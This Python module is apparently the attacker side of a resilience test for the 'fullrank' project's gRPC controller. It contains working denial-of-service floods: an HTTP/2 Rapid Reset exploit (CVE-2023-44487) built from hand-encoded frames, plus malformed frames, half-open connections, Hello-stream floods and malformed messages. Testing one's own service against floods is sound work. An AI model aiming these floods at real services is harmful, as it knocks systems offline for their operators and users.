"""Floods of a controller's port, each by one process: the attacker of ``flooded_runs.py``."""

import asyncio
import os
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count
from multiprocessing.sharedctypes import Synchronized
from typing import Any, TypeAlias

import grpc

from fullrank import __version__
from fullrank.net.channel import CHANNEL_OPTIONS
from fullrank.v1 import controller_pb2 as pb

Counter: TypeAlias = "Synchronized[int]"
Attack: TypeAlias = Callable[[str, int, Counter], Awaitable[None]]
"""Floods an address over so many connections, and counts calls, connections or writes."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = struct.pack(">I", 8)
AT_A_TIME = 100
"""Streams that are opened and reset in one write."""
STREAMS = 5
"""Hello streams of one connection."""
STATUS = "/fullrank.v1.ControllerService/GetStatus"
WORK = "/fullrank.v1.ControllerService/Work"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Encode a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """Encode a header without a table (RFC 7541, 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


CALL = b"".join(
    literal(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", STATUS),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
)


async def connected(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Open a connection that has said the preface of HTTP/2."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    return reader, writer


async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Acknowledge pings and settings, so that the connection stays, until it is closed."""
    while True:
        head = await reader.readexactly(9)
        size, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
        payload = await reader.readexactly(size)
        if kind in (PING, SETTINGS) and not flags & ACK:
            writer.write(frame(kind, ACK, 0, payload if kind == PING else b""))


async def rapid_reset(address: str, connections: int, sent: Counter) -> None:
    """Open calls and reset them at once (CVE-2023-44487)."""

    async def reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        for first in count(1, 2 * AT_A_TIME):
            for stream in range(first, first + 2 * AT_A_TIME, 2):
                writer.write(frame(HEADERS, END_HEADERS, stream, CALL))
                writer.write(frame(RST_STREAM, 0, stream, CANCEL))
            await writer.drain()
            sent.value += AT_A_TIME
            await asyncio.sleep(0)

    await again(address, connections, reset)


async def malformed(address: str, connections: int, sent: Counter) -> None:
    """Send bytes that are no frames of HTTP/2, after a right preface."""

    async def spoil(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(os.urandom(4096))
            await writer.drain()
            sent.value += 1
            await asyncio.sleep(0)

    await again(address, connections, spoil)


async def half_open(address: str, connections: int, sent: Counter) -> None:
    """Hold connections that say the preface and nothing more."""

    async def wait(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        sent.value += 1
        await asyncio.Event().wait()

    await again(address, connections, wait)


async def again(
    address: str,
    connections: int,
    attack: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]],
) -> None:
    """Attack over so many connections, each of which is opened again when it is closed."""

    async def insist() -> None:
        while True:
            with suppress(OSError, EOFError):
                reader, writer = await connected(address)
                try:
                    done, pending = await asyncio.wait(
                        [
                            asyncio.ensure_future(answer(reader, writer)),
                            asyncio.ensure_future(attack(reader, writer)),
                        ],
                        return_when=asyncio.FIRST_COMPLETED,
                    )
                    for task in (*done, *pending):
                        task.cancel()
                    await asyncio.gather(*done, *pending, return_exceptions=True)
                finally:
                    writer.close()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(insist() for _ in range(connections)))


async def hello(address: str, connections: int, sent: Counter) -> None:
    """Say Hello on many streams of many connections, again wherever one is refused."""
    greeting = pb.LearnerMessage(hello=pb.Hello(version=__version__, host="flood"))
    options = [*CHANNEL_OPTIONS, ("grpc.use_local_subchannel_pool", 1)]

    async def insist(channel: grpc.aio.Channel) -> None:
        while True:
            call: Any = channel.stream_stream(WORK)()
            with suppress(grpc.RpcError, asyncio.InvalidStateError):
                await call.write(greeting.SerializeToString())
                sent.value += 1
                while await call.read():
                    pass
            await asyncio.sleep(0.01)

    channels = [grpc.aio.insecure_channel(address, options=options) for _ in range(connections)]
    await asyncio.gather(*(insist(channel) for channel in channels for _ in range(STREAMS)))


async def malformed_messages(address: str, connections: int, sent: Counter) -> None:
    """Call with bytes that are no message."""
    options = [*CHANNEL_OPTIONS, ("grpc.use_local_subchannel_pool", 1)]

    async def insist(channel: grpc.aio.Channel) -> None:
        call: Any = channel.unary_unary(STATUS)
        while True:
            with suppress(grpc.RpcError):
                sent.value += 1
                await call(b"\xff" * 100)

    channels = [grpc.aio.insecure_channel(address, options=options) for _ in range(connections)]
    await asyncio.gather(*(insist(channel) for channel in channels for _ in range(STREAMS)))


ATTACKS: dict[str, tuple[Attack, int]] = {
    "rapid reset": (rapid_reset, 4),
    "Hello streams": (hello, 300),
    "half-open connections": (half_open, 900),
    "malformed frames": (malformed, 4),
    "malformed messages": (malformed_messages, 64),
}
"""Attacks by name, and their connections."""


def attack(address: str, name: str, share: float, core: int, sent: Counter) -> None:
    """Run as a process that attacks from one core."""
    os.sched_setaffinity(0, {core})
    begin, connections = ATTACKS[name]
    asyncio.run(_run(begin(address, max(1, round(share * connections)), sent)))


async def _run(attacking: Awaitable[None]) -> None:
    await attacking
